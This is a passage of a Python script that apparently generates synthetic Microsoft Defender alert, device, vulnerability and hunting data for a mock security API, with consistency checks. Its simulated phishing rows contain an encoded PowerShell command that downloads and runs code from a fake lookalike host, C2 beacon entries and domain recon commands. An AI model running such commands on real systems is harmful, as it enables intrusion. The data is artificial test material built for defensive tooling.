            IP_FIRST.setdefault(e["ipAddress"], []).append(ctx["first"])
        if e["url"]:
            if e["url"] not in ev_urls:
                ev_urls.append(e["url"])
            IP_FIRST.setdefault(urlparse(e["url"]).hostname, []).append(ctx["first"])
ips = []
for ip in ev_ips:
    t0 = min(IP_FIRST[ip]) - timedelta(minutes=rng.randint(0, 30))
    t1 = max(IP_FIRST[ip]) + timedelta(hours=rng.randint(1, 40))
    t1 = min(t1, NOW - timedelta(hours=1))
    ips.append({"stats": {"ipAddress": ip, "organizationPrevalence": len({ALERT_CTX[a["id"]]["host"] for a in alerts
                                                                          if any(e["ipAddress"] == ip for e in a["evidence"])}),
                          "orgFirstSeen": iso(t0, whole=True), "orgLastSeen": iso(t1, whole=True)}})
for ext in sorted({m["lastExternalIpAddress"] for m in machines})[:4]:
    ips.append({"stats": {"ipAddress": ext, "organizationPrevalence": sum(1 for m in machines if m["lastExternalIpAddress"] == ext),
                          "orgFirstSeen": iso(datetime(2026, 9, 1) + timedelta(seconds=rng.randint(0, 86400 * 5)), whole=True),
                          "orgLastSeen": iso(NOW - timedelta(minutes=rng.randint(5, 600)), whole=True)}})

domains = []
for u in ev_urls:
    host = urlparse(u).hostname
    if any(ch.isalpha() for ch in host.replace(".", "")) and host not in [d["stats"]["host"] for d in domains]:
        t0 = min(IP_FIRST[host]) - timedelta(minutes=rng.randint(0, 30))
        t1 = min(max(IP_FIRST[host]) + timedelta(hours=rng.randint(1, 40)), NOW - timedelta(hours=1))
        prev = len({ALERT_CTX[a["id"]]["host"] for a in alerts if any(e["url"] and urlparse(e["url"]).hostname == host for e in a["evidence"])})
        domains.append({"stats": {"host": host, "organizationPrevalence": prev,
                                  "orgFirstSeen": iso(t0, whole=True), "orgLastSeen": iso(t1, whole=True)}})

# ----------------------------------------------------------------- logon users / alert users
logon_users = {}
USER_MACHINES = {}
for name, ext in M_EXTRA.items():
    for u, lt in ext["users"]:
        USER_MACHINES.setdefault((u["domainName"], u["accountName"]), []).append(name)
for name, ext in M_EXTRA.items():
    m = MBY[name]
    rows = []
    for u, lt in ext["users"]:
        fs = ext["first"] + timedelta(hours=rng.randint(1, 72))
        ls = min(ext["last"] - timedelta(minutes=rng.randint(0, 600)), NOW - timedelta(minutes=10))
        ls = max(ls, fs + timedelta(hours=1))
        rows.append({
            "id": "%s\\%s" % (u["domainName"], u["accountName"]),
            "accountName": u["accountName"], "accountDomain": u["domainName"],
            "firstSeen": iso(fs, whole=True), "lastSeen": iso(ls, whole=True),
            "logonTypes": lt, "isDomainAdmin": u["isDomainAdmin"], "isOnlyNetworkUser": lt == "Network",
        })
    logon_users[m["id"]] = rows

alert_users = {}
for a in alerts:
    if not a["relatedUser"]:
        continue
    u = ALERT_CTX[a["id"]]["user"]
    hosts = USER_MACHINES[(u["domainName"], u["accountName"])]
    lus = [r for h in hosts for r in logon_users[MBY[h]["id"]] if r["accountName"] == u["accountName"] and r["accountDomain"] == u["domainName"]]
    alert_users[a["id"]] = {
        "id": "%s\\%s" % (u["domainName"], u["accountName"]),
        "accountName": u["accountName"], "accountDomain": u["domainName"], "accountSid": u["userSid"],
        "firstSeen": min(r["firstSeen"] for r in lus), "lastSeen": max(r["lastSeen"] for r in lus),
        "mostPrevalentMachineId": MBY[hosts[0]]["id"], "leastPrevalentMachineId": MBY[hosts[-1]]["id"],
        "logonTypes": ", ".join(sorted({r["logonTypes"] for r in lus})), "logOnMachinesCount": len(hosts),
        "isDomainAdmin": u["isDomainAdmin"], "isOnlyNetworkUser": all(r["isOnlyNetworkUser"] for r in lus),
    }

# ----------------------------------------------------------------- software / vulnerabilities
SW = {
    "win": [("microsoft", "windows_11", 23, False, 18.4), ("microsoft", "office", 14, True, 22.9), ("microsoft", "edge_chromium-based", 3, False, 2.1),
            ("google", "chrome", 7, True, 9.3), ("7-zip", "7-zip", 2, True, 4.4), ("adobe", "acrobat_reader_dc", 5, False, 6.7),
            ("notepad++", "notepad++", 1, False, 0.8), ("zoom", "zoom", 0, False, 0.0)],
    "srv": [("microsoft", "windows_server_2022", 31, True, 27.5), ("microsoft", "sql_server_2022", 4, False, 8.1),
            ("microsoft", ".net_framework", 6, False, 5.2), ("oracle", "jre", 12, True, 14.8), ("openssl", "openssl", 3, False, 3.9)],
    "lnx": [("canonical", "ubuntu_linux", 18, False, 12.2), ("apache", "http_server", 6, True, 11.6), ("php", "php", 9, True, 13.4),
            ("openbsd", "openssh", 2, False, 2.5), ("gnu", "bash", 0, False, 0.0), ("openssl", "openssl", 4, False, 4.1)],
    "mac": [("apple", "macos", 12, False, 9.7), ("google", "chrome", 7, True, 9.3), ("adobe", "photoshop", 2, False, 1.9),
            ("microsoft", "teams", 0, False, 0.0)],
}
VULNS = {
    "win": [("CVE-2026-21987", "Microsoft Office remote code execution vulnerability via crafted macro-enabled workbook.", "High", 7.8, True, True, False, ["RemoteCodeExecution"]),
            ("CVE-2026-20411", "Windows Win32k elevation of privilege vulnerability.", "High", 7.0, False, False, False, []),
            ("CVE-2026-33104", "7-Zip directory traversal vulnerability when extracting crafted archives.", "Medium", 5.5, True, False, False, ["LocalExploit"]),
            ("CVE-2026-18822", "Google Chrome use-after-free in V8 allows heap corruption via a crafted HTML page.", "High", 8.8, True, True, True, ["RemoteCodeExecution"])],
    "srv": [("CVE-2026-24501", "Windows SMB server information disclosure vulnerability.", "Medium", 6.5, False, False, False, []),
            ("CVE-2026-30117", "Oracle Java SE vulnerability allowing unauthenticated network access to compromise Java SE.", "High", 8.1, True, False, False, ["RemoteCodeExecution"]),
            ("CVE-2026-29011", "Microsoft SQL Server elevation of privilege vulnerability.", "High", 8.8, False, False, False, [])],
    "lnx": [("CVE-2026-27780", "PHP file upload handling allows remote code execution when combined with permissive upload directories.", "Critical", 9.8, True, True, True, ["RemoteCodeExecution", "WebApplication"]),
            ("CVE-2026-25342", "Apache HTTP Server mod_proxy request smuggling vulnerability.", "High", 7.5, True, False, False, ["WebApplication"]),
            ("CVE-2026-19003", "OpenSSL X.509 name constraint checking buffer over-read.", "Medium", 5.9, False, False, False, [])],
    "mac": [("CVE-2026-22190", "macOS Gatekeeper bypass allows execution of unsigned applications.", "Medium", 5.5, True, False, False, ["LocalExploit"]),
            ("CVE-2026-18822", "Google Chrome use-after-free in V8 allows heap corruption via a crafted HTML page.", "High", 8.8, True, True, True, ["RemoteCodeExecution"])],
}
SW_MACHINES = {"ws-fin-014": "win", "ws-fin-011": "win", "srv-sql-02": "srv", "lnx-web-01": "lnx", "mac-design-03": "mac"}
software = {}
vulnerabilities = {}
for host, kind in SW_MACHINES.items():
    mid = MBY[host]["id"]
    software[mid] = [{
        "id": "%s-_-%s" % (v, n), "name": n, "vendor": v, "weaknesses": w, "publicExploit": pe,
        "activeAlert": (n == "office" and host.startswith("ws-fin")) or (n == "php" and host == "lnx-web-01"),
        "exposedMachines": rng.randint(1, 25), "impactScore": imp,
    } for v, n, w, pe, imp in SW[kind]]
    vulnerabilities[mid] = [{
        "id": cve, "name": cve, "description": desc, "severity": sev, "cvssV3": cv, "exposedMachines": rng.randint(1, 20),
        "publishedOn": iso(datetime(2026, rng.randint(2, 10), rng.randint(1, 28)), whole=True),
        "updatedOn": iso(datetime(2026, 11, rng.randint(1, 25)), whole=True),
        "publicExploit": pe, "exploitVerified": ev_, "exploitInKit": kit, "exploitTypes": list(types),
        "exploitUris": ["https://www.exploit-db.com/exploits/%d" % rng.randint(51000, 52999)] if pe else [],
    } for cve, desc, sev, cv, pe, ev_, kit, types in VULNS[kind]]

# ----------------------------------------------------------------- advanced hunting
report_id = 10000


def next_report():
    global report_id
    report_id += rng.randint(1, 97)
    return report_id


proc_rows = []
net_rows = []


def in_window(t):
    return HUNT_START <= t < NOW


def proc_row(t, host, key, cmd, user, pkey, pcmd):
    f, pf = FILES[key], FILES[pkey]
    m = MBY[host]
    proc_rows.append({
        "Timestamp": iso(t), "DeviceId": m["id"], "DeviceName": m["computerDnsName"], "ActionType": "ProcessCreated",
        "FileName": f["name"], "FolderPath": user_path(f["folder"], user).rstrip("\\/") + ("/" if f["folder"].startswith("/") else "\\") + f["name"],
        "SHA1": f["sha1"], "SHA256": f["sha256"], "ProcessCommandLine": cmd,
        "AccountName": user["accountName"] if user else "system",
        "AccountDomain": user["domainName"] if user else "nt authority",
        "InitiatingProcessFileName": pf["name"], "InitiatingProcessCommandLine": pcmd, "ReportId": next_report(),
    })


def net_row(t, host, proc, rip, rport, rurl, action="ConnectionSuccess", proto="Tcp"):
    m = MBY[host]
    net_rows.append({
        "Timestamp": iso(t), "DeviceId": m["id"], "DeviceName": m["computerDnsName"], "ActionType": action,
        "RemoteIP": rip, "RemotePort": rport, "RemoteUrl": rurl, "LocalIP": m["lastIpAddress"], "Protocol": proto,
        "InitiatingProcessFileName": proc, "ReportId": next_report(),
    })


# 1) rows mirroring alert evidence on the same devices (only inside the hunting window)
RESOLVE = {C2_HOST: C2_IP, PAYLOAD_HOST: "104.21.48.77", "contoso-payroll.sharepoint-docs.net": "172.67.181.20",
           INDICATOR_HOST: INDICATOR_IP, ADLOAD_HOST: "146.70.87.26", MINER_HOST: MINER_IP}
for a in alerts:
    ctx = ALERT_CTX[a["id"]]
    if not in_window(ctx["first"]):
        continue
    host, user = ctx["host"], ctx["user"]
    procs = [e for e in a["evidence"] if e["entityType"] == "Process"]
    init_proc = FILES[procs[0]["_fileKey"]]["name"] if procs else ("powershell.exe" if host.startswith("ws-") else "bash")
    for e in procs:
        t = datetime.fromisoformat(e["processCreationTime"][:-1][:26])
        pf = FILES[e["_parentKey"]]
        proc_row(t, host, e["_fileKey"], e["processCommandLine"], user, e["_parentKey"], pf["name"])
    for e in a["evidence"]:
        t = jitter(ctx["first"], 1, 40)
        if e["entityType"] == "Ip":
            port = 4444 if "revshell" in ctx["tkey"] else (8080 if e["ipAddress"] == SQL_IP else 443)
            net_row(t, host, init_proc, e["ipAddress"], port, "")
        elif e["entityType"] == "Url":
            pu = urlparse(e["url"])
            rip = RESOLVE.get(pu.hostname, pu.hostname)
            port = pu.port or (443 if pu.scheme in ("https", "stratum+tcp") else 80)
            act = "ConnectionFailed" if ctx["tkey"] in ("custom_ti", "smartscreen") else "ConnectionSuccess"
            net_row(t, host, init_proc, rip, port, pu.hostname if pu.hostname != rip else "", act)

ISOLATED_AT = datetime(2026, 11, 18, 11, 42)

# 2) the phishing story with more context: outlook -> excel -> powershell (appdata) -> rundll32 beacons
for host in ("ws-fin-014", "ws-fin-011", "ws-fin-022"):
    user = M_EXTRA[host]["users"][0][0]
    first = min(ALERT_CTX[a["id"]]["first"] for a in alerts if ALERT_CTX[a["id"]]["host"] == host and ALERT_CTX[a["id"]]["incident"]["key"] == "phish")
    t = first - timedelta(minutes=4)
    proc_row(t, host, "excel", "\"EXCEL.EXE\" \"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KX2ZQ1M\\Q4_Remittance_Advice.xlsm\"" % user["accountName"],
             user, "outlook", "\"OUTLOOK.EXE\"")
    proc_row(jitter(first, 240, 300), host, "powershell", RUN_PS1_CMD, user, "powershell", STAGE_CMD)
    proc_row(jitter(first, 300, 420), host, "powershell",
             "powershell.exe -nop -w hidden -c \"Copy-Item $env:TEMP\\msupd.tmp $env:appdata\\MsUpdate\\msupd.dll\"", user, "powershell", RUN_PS1_CMD)
    proc_row(jitter(first, 420, 480), host, "rundll32", BEACON_CMD, user, "powershell", RUN_PS1_CMD)
    proc_row(jitter(first, 3600, 7200), host, "powershell",
             "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAZABuAC4AdQBwAGQAYQB0AGUALQBtAHMAZgB0AC0AdABlAGwAZQBtAGUAdAByAHkALgBjAG8AbQAvAGEAcABpAC8AdgAyAC8AdABhAHMAawBzACkA",
             user, "rundll32", BEACON_CMD)
    proc_row(jitter(first, 7300, 9000), host, "cmd", "cmd.exe /c whoami /groups & net user %s /domain & nltest /dclist:contoso" % user["accountName"],
             user, "rundll32", BEACON_CMD)
    net_row(jitter(first, 270, 290), host, "powershell.exe", RESOLVE[PAYLOAD_HOST], 443, PAYLOAD_HOST)
    # periodic beacons until isolation / now
    bt = jitter(first, 480, 540)
    # beacons stop at isolation (014), after the full scan + cleanup (011), at quarantine (022)
    end = {"ws-fin-014": ISOLATED_AT, "ws-fin-011": datetime(2026, 11, 18, 18, 0),
           "ws-fin-022": datetime(2026, 11, 19, 9, 22)}[host]
    while bt < end and bt < NOW:
        net_row(bt, host, "rundll32.exe", C2_IP, 443, C2_HOST)
        bt = jitter(bt, 1200, 2400)
    # post-containment blocked attempts
    for _ in range(2):
        net_row(jitter(end, 600, 40000), host, "rundll32.exe", C2_IP, 443, C2_HOST, "ConnectionFailed")

# 3) noise
NOISE_WIN = [
    ("cmd", "cmd.exe /c ipconfig /all", "explorer", None),
    ("msedge", "\"msedge.exe\" --type=renderer --lang=en-US", "msedge", None),
    ("powershell", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\Contoso\\Inventory\\collect.ps1\"", "svchost", "system"),
    ("powershell", "powershell.exe -NoLogo -Command \"Get-ChildItem $env:appdata\\Microsoft\\Teams -Recurse | Measure-Object\"", "explorer", None),
    ("rundll32", "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", "explorer", None),
    ("certutil", "certutil.exe -verify C:\\ProgramData\\Contoso\\certs\\root.cer", "cmd", "system"),
    ("cmd", "cmd.exe /c \"C:\\Program Files\\Contoso\\agent\\healthcheck.bat\"", "svchost", "system"),
]
add_file("explorer", "explorer.exe", r"C:\Windows", 5392112, product="Microsoft® Windows® Operating System", gprev=9999999, gfirst=OLD, **MS)
add_file("svchost", "svchost.exe", r"C:\Windows\System32", 57360, product="Microsoft® Windows® Operating System", gprev=9999999, gfirst=OLD, **MS)
add_file("python3", "python3.10", "/usr/bin", 5904904, pe=False, ftype="Executable", gprev=3456789, gfirst=OLD)
add_file("sshd", "sshd", "/usr/sbin", 921088, pe=False, ftype="Executable", gprev=4567890, gfirst=OLD)
add_file("launchd", "launchd", "/sbin", 1005584, pe=False, ftype="Executable", gprev=2345678, gfirst=OLD)
NOISE_LNX = [
    ("bash", "bash -c /usr/local/bin/backup.sh", "sshd"),
    ("curl", "curl -s -o /dev/null -w %{http_code} http://localhost/healthz", "bash"),
    ("python3", "python3 /opt/app/manage.py clearsessions", "bash"),
    ("bash", "/bin/bash /opt/jenkins/workspace/build.sh", "sshd"),
]
NOISE_MAC = [("zsh", "-zsh", "launchd"), ("curl", "curl -fsSL https://formulae.brew.sh/api/formula.jws.json", "zsh")]
NOISE_NET_WIN = [("msedge.exe", "13.107.42.14", 443, "www.office.com"), ("svchost.exe", "20.190.160.22", 443, "login.microsoftonline.com"),
                 ("ms-teams.exe", "52.112.238.179", 443, "teams.microsoft.com"), ("MsSense.exe", "20.42.73.27", 443, "winatp-gw-eus.microsoft.com"),
                 ("OneDrive.exe", "13.107.136.10", 443, "contoso-my.sharepoint.com"), ("svchost.exe", "10.10.10.21", 53, ""),
                 ("msedge.exe", "142.250.72.110", 443, "www.google.com")]
NOISE_NET_LNX = [("apt", "91.189.91.83", 80, "archive.ubuntu.com"), ("curl", "140.82.112.4", 443, "github.com"),
                 ("python3.10", "10.10.12.43", 5432, ""), ("mdatp_audisp_plugin", "20.42.73.27", 443, "winatp-gw-eus.microsoft.com")]
NOISE_NET_MAC = [("Safari", "17.253.144.10", 443, "www.apple.com"), ("wdavdaemon", "20.42.73.27", 443, "winatp-gw-eus.microsoft.com")]
seen_hosts = [m["computerDnsName"].split(".")[0] for m in machines if m["healthStatus"] == "Active"]
while len(proc_rows) < 150:
    host = rng.choice(seen_hosts)
    ext = M_EXTRA[host]
    t = HUNT_START + timedelta(seconds=rng.randint(0, 20 * 86400 - 1), microseconds=rng.randrange(10**6))
    plat = MBY[host]["osPlatform"]
    user = rng.choice(ext["users"])[0]
    if plat.startswith("Windows"):
        key, cmd, pkey, acct = rng.choice(NOISE_WIN)
        proc_row(t, host, key, cmd, None if acct == "system" else user, pkey, FILES[pkey]["name"])
    elif plat == "Linux":
        key, cmd, pkey = rng.choice(NOISE_LNX)
        proc_row(t, host, key, cmd, user, pkey, FILES[pkey]["name"])
    else:
        key, cmd, pkey = rng.choice(NOISE_MAC)
        proc_row(t, host, key, cmd, user, pkey, FILES[pkey]["name"])
while len(net_rows) < 150:
    host = rng.choice(seen_hosts)
    t = HUNT_START + timedelta(seconds=rng.randint(0, 20 * 86400 - 1), microseconds=rng.randrange(10**6))
    plat = MBY[host]["osPlatform"]
    pool = NOISE_NET_WIN if plat.startswith("Windows") else (NOISE_NET_LNX if plat == "Linux" else NOISE_NET_MAC)
    proc, rip, port, url = rng.choice(pool)
    if host == "ws-fin-014" and t > ISOLATED_AT and proc != "MsSense.exe":
        continue  # device isolated: only the sensor still talks
    net_row(t, host, proc, rip, port, url, "ConnectionFailed" if rng.random() < 0.06 else "ConnectionSuccess",
            "Udp" if port == 53 else "Tcp")
proc_rows.sort(key=lambda r: r["Timestamp"])
net_rows.sort(key=lambda r: r["Timestamp"])

# ----------------------------------------------------------------- document
doc = {
    "tenant_id": TENANT_ID,
    "as_of": "2026-11-28T00:00:00Z",
    "apps": [
        {"client_id": "11111111-1111-4111-8111-111111111111", "display_name": "defender-functions (demo, secret)",
         "client_secret": "demo-secret-value-do-not-use-in-prod",
         "roles": ["Alert.Read.All", "Alert.ReadWrite.All", "Machine.Read.All", "Machine.ReadWrite.All", "Machine.Isolate",
                   "Machine.RestrictExecution", "Machine.Scan", "Machine.CollectForensics", "File.Read.All", "Ip.Read.All",
                   "URL.Read.All", "User.Read.All", "Ti.ReadWrite.All", "AdvancedQuery.Read.All", "Software.Read.All",
                   "Vulnerability.Read.All", "Incident.Read.All", "Incident.ReadWrite.All", "AdvancedHunting.Read.All",
                   "SecurityAlert.Read.All", "SecurityIncident.Read.All", "ThreatHunting.Read.All"],
         "vault_access": True},
        {"client_id": "22222222-2222-4222-8222-222222222222", "display_name": "read-only reporter",
         "client_secret": "reporter-secret-value", "roles": ["Alert.Read.All", "Machine.Read.All", "Incident.Read.All"],
         "vault_access": False},
        {"client_id": "33333333-3333-4333-8333-333333333333", "display_name": "public client for device code",
         "public_client": True, "roles": []},
        {"client_id": "66666666-6666-4666-8666-666666666666", "display_name": "Teams bot (Azure Bot, single-tenant)",
         "client_secret": "teams-bot-secret-value-demo", "roles": [], "vault_access": False},
    ],
    "users": [
        {"upn": "alice@contoso.com", "scp": ["Alert.Read", "Machine.Read", "Machine.Isolate", "Machine.Scan", "Incident.Read",
                                             "AdvancedQuery.Read", "SecurityAlert.Read.All", "SecurityIncident.Read.All",
                                             "ThreatHunting.Read.All"]},
        {"upn": "bob@contoso.com", "scp": ["Alert.Read", "Machine.Read"]},
    ],
    "secrets": {
        "defender-client-secret": "demo-secret-value-do-not-use-in-prod",
        "slack-signing-secret": "8f742231b10e8888abcd99yyyzzz85a5",
        "webhook-secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        "webhook-callback-secret": "whsec_Y2FsbGJhY2stb3V0Ym91bmQta2V5LWRlbW8=",
        "teams-outgoing-secret": base64.b64encode(bytes(rng.getrandbits(8) for _ in range(32))).decode(),
        "teams-bot-secret": "teams-bot-secret-value-demo",
    },
    "machines": machines,
    "alerts": strip_private(alerts),
    "incidents": strip_private(incidents),
    "graph_alerts": graph_alerts,
    "graph_incidents": graph_incidents,
    "indicators": indicators,
    "machine_actions": machine_actions,
    "investigations": investigations,
    "files": files,
    "ips": ips,
    "domains": domains,
    "logon_users": logon_users,
    "alert_users": alert_users,
    "software": software,
    "vulnerabilities": vulnerabilities,
    "hunting": {"DeviceProcessEvents": proc_rows, "DeviceNetworkEvents": net_rows},
}

# ----------------------------------------------------------------- consistency checks
import re

HEX = lambda n: re.compile(r"^[0-9a-f]{%d}$" % n)
H40, H64, H32 = HEX(40), HEX(64), HEX(32)


def parse_ts(s):
    assert isinstance(s, str) and s.endswith("Z"), s
    return datetime.fromisoformat(s)


TS_KEYS = re.compile(r"(Time|Seen|Observed|DateTime|DateTimeUtc|TimeUtc|^Timestamp$|On$|^startTime$|^endTime$|^expirationTime$)")


def walk_ts(o, path=""):
    if isinstance(o, dict):
        for k, v in o.items():
            if isinstance(v, str) and TS_KEYS.search(k) and k not in ("threatName",):
                parse_ts(v)
            walk_ts(v, path + "." + k)
    elif isinstance(o, list):
        for v in o:
            walk_ts(v, path)


d = json.loads(json.dumps(doc))
assert d["secrets"]["defender-client-secret"] == d["apps"][0]["client_secret"]
mids = [m["id"] for m in d["machines"]]
assert len(mids) == len(set(mids))
assert all(H40.match(x) for x in mids)
mset = {m["id"]: m for m in d["machines"]}
iids = {i["incidentId"] for i in d["incidents"]}
for a in d["alerts"]:
    assert a["machineId"] in mset and mset[a["machineId"]]["computerDnsName"] == a["computerDnsName"]
    assert a["incidentId"] in iids
    assert parse_ts(a["lastUpdateTime"]) >= parse_ts(a["alertCreationTime"])
    assert datetime(2026, 10, 1, tzinfo=timezone.utc) <= parse_ts(a["alertCreationTime"]) < datetime(2026, 12, 1, tzinfo=timezone.utc)
    assert a["severity"] in SEV_ORDER and a["status"] in ("New", "InProgress", "Resolved")
    assert parse_ts(a["firstEventTime"]) >= parse_ts(mset[a["machineId"]]["firstSeen"])
    assert parse_ts(a["lastUpdateTime"]) < datetime(2026, 11, 28, tzinfo=timezone.utc)
    if a["relatedUser"]:
        names = {(u["accountDomain"], u["accountName"]) for u in d["logon_users"][a["machineId"]]}
        assert (a["relatedUser"]["domainName"], a["relatedUser"]["userName"]) in names
        assert a["id"] in d["alert_users"]
    for e in a["evidence"]:
        if e["sha1"]:
            assert H40.match(e["sha1"])
        if e["sha256"]:
            assert H64.match(e["sha256"])
for inc_ in d["incidents"]:
    mine = sorted(a["id"] for a in d["alerts"] if a["incidentId"] == inc_["incidentId"])
    assert sorted(x["alertId"] for x in inc_["alerts"]) == mine, inc_["incidentId"]
    assert inc_["status"] in ("Active", "Resolved", "Redirected")
    for x in inc_["alerts"]:
        src = next(a for a in d["alerts"] if a["id"] == x["alertId"])
        assert x["title"] == src["title"] and x["severity"] == src["severity"]
        assert x["creationTime"] == src["alertCreationTime"] and x["lastUpdatedTime"] == src["lastUpdateTime"]
        assert [dv["mdatpDeviceId"] for dv in x["devices"]] == [src["machineId"]]
assert sum(len(i["alerts"]) for i in d["incidents"]) == len(d["alerts"])
assert len(d["graph_alerts"]) == len(d["alerts"])
assert {g["providerAlertId"] for g in d["graph_alerts"]} == {a["id"] for a in d["alerts"]}
assert {g["incidentId"] for g in d["graph_alerts"]} <= {str(i) for i in iids}
assert {g["id"] for g in d["graph_incidents"]} == {str(i) for i in iids}
for g in d["graph_alerts"]:
    assert g["status"] in ("new", "inProgress", "resolved") and g["severity"] in ("informational", "low", "medium", "high")
for f in d["files"]:
    assert H40.match(f["file"]["sha1"]) and H64.match(f["file"]["sha256"]) and H32.match(f["file"]["md5"])
    assert f["stats"]["sha1"] == f["file"]["sha1"]
ev_sha1 = {e["sha1"] for a in d["alerts"] for e in a["evidence"] if e["sha1"]}
assert ev_sha1 <= {f["file"]["sha1"] for f in d["files"]}
assert set(ev_ips) <= {i["stats"]["ipAddress"] for i in d["ips"]}
for ma in d["machine_actions"]:
    assert ma["machineId"] in mset and ma["status"] in ("Succeeded", "Failed")
for inv in d["investigations"]:
    assert inv["machineId"] in mset and inv["triggeringAlertId"] in {a["id"] for a in d["alerts"]}
for m in d["machines"]:
    assert m["osPlatform"] in ("Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022", "Linux", "macOS")
    assert m["healthStatus"] in ("Active", "Inactive", "ImpairedCommunication", "NoSensorData")
    assert m["riskScore"] in ("None", "Low", "Medium", "High", "Informational")
    assert m["exposureLevel"] in ("None", "Low", "Medium", "High")
    assert m["lastIpAddress"].startswith("10.")
    fs, ls = parse_ts(m["firstSeen"]), parse_ts(m["lastSeen"])
    assert datetime(2026, 9, 1, tzinfo=timezone.utc) <= fs <= ls < datetime(2026, 12, 1, tzinfo=timezone.utc)
    if m["healthStatus"] == "Active":
        assert ls >= datetime(2026, 11, 26, tzinfo=timezone.utc)
    assert 1 <= len(d["logon_users"][m["id"]]) <= 3
assert set(d["logon_users"]) == set(mids)
assert set(d["software"]) <= set(mids) and set(d["vulnerabilities"]) <= set(mids)
for kind in ("machines", "alerts", "indicators", "machine_actions", "investigations", "graph_alerts", "graph_incidents"):
    ids = [x["id"] for x in d[kind]]
    assert len(ids) == len(set(ids)), kind
assert len({i["incidentId"] for i in d["incidents"]}) == len(d["incidents"])
assert len({f["file"]["sha1"] for f in d["files"]}) == len(d["files"])
assert len({i["stats"]["ipAddress"] for i in d["ips"]}) == len(d["ips"])
assert len({x["stats"]["host"] for x in d["domains"]}) == len(d["domains"])
for tbl in d["hunting"].values():
    for r in tbl:
        t = parse_ts(r["Timestamp"])
        assert datetime(2026, 11, 8, tzinfo=timezone.utc) <= t < datetime(2026, 11, 28, tzinfo=timezone.utc), r
        assert r["DeviceId"] in mset and isinstance(r["ReportId"], int)
for r in d["hunting"]["DeviceProcessEvents"]:
    assert H40.match(r["SHA1"]) and H64.match(r["SHA256"])
assert sum(1 for r in d["hunting"]["DeviceProcessEvents"]
           if r["FileName"] == "powershell.exe" and "appdata" in r["ProcessCommandLine"]) >= 3
walk_ts(d)

json.dump(doc, sys.stdout, indent=1, ensure_ascii=False)
sys.stdout.write("\n")
